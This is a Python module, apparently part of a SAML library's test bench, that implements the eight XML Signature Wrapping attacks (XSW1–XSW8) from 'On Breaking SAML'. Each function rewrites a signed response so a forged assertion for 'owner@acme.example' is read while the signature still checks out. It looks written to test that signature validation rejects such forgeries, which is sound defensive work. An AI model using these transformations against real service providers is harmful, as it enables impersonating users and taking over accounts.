"""Signature wrapping, the eight ways of Somorovsky et al. (On Breaking SAML, 2012): something is signed, something else is read."""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from auth.saml.names import DSIG, PROTOCOL
from ops.bench.identity_provider import one

EVIL = "owner@acme.example"


def _renamed(element: etree._Element) -> etree._Element:
    element.set("ID", "_evil")
    one(element, ".//saml:Subject/saml:NameID").text = EVIL
    return element


def _without_signature(element: etree._Element) -> etree._Element:
    copy = deepcopy(element)
    copy.remove(one(copy, "./ds:Signature"))
    return copy


def _response_within_its_signature(root: etree._Element) -> None:
    original = _without_signature(root)
    one(_renamed(root), "./ds:Signature").append(original)


def _response_beside_its_signature(root: etree._Element) -> None:
    original = _without_signature(root)
    one(_renamed(root), "./ds:Signature").addprevious(original)


def _evil_before(root: etree._Element) -> None:
    original = one(root, "./saml:Assertion")
    original.addprevious(_renamed(_without_signature(original)))


def _evil_around(root: etree._Element) -> None:
    original = one(root, "./saml:Assertion")
    evil = _renamed(_without_signature(original))
    root.replace(original, evil)
    evil.append(original)


def _evil_carries_the_signature(root: etree._Element) -> None:
    signed = one(root, "./saml:Assertion")
    original = _without_signature(signed)
    _renamed(signed)
    root.append(original)


def _original_within_the_evil_ones_signature(root: etree._Element) -> None:
    signed = one(root, "./saml:Assertion")
    original = _without_signature(signed)
    one(_renamed(signed), "./ds:Signature").append(original)


def _evil_in_extensions(root: etree._Element) -> None:
    original = one(root, "./saml:Assertion")
    extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
    extensions.append(_renamed(_without_signature(original)))
    one(root, "./samlp:Status").addprevious(extensions)


def _original_in_an_object(root: etree._Element) -> None:
    signed = one(root, "./saml:Assertion")
    original = _without_signature(signed)
    etree.SubElement(one(_renamed(signed), "./ds:Signature"), f"{{{DSIG}}}Object").append(original)


WRAPPINGS: dict[str, tuple[str, Callable[[etree._Element], None]]] = {
    "XSW1: the response within its signature": ("response", _response_within_its_signature),
    "XSW2: the response beside its signature": ("response", _response_beside_its_signature),
    "XSW3: another assertion before the signed one": ("assertion", _evil_before),
    "XSW4: another assertion around the signed one": ("assertion", _evil_around),
    "XSW5: another assertion with the signature": ("assertion", _evil_carries_the_signature),
    "XSW6: the signed one within the signature": ("assertion", _original_within_the_evil_ones_signature),
    "XSW7: another assertion in the extensions": ("assertion", _evil_in_extensions),
    "XSW8: the signed one in an object": ("assertion", _original_in_an_object),
}
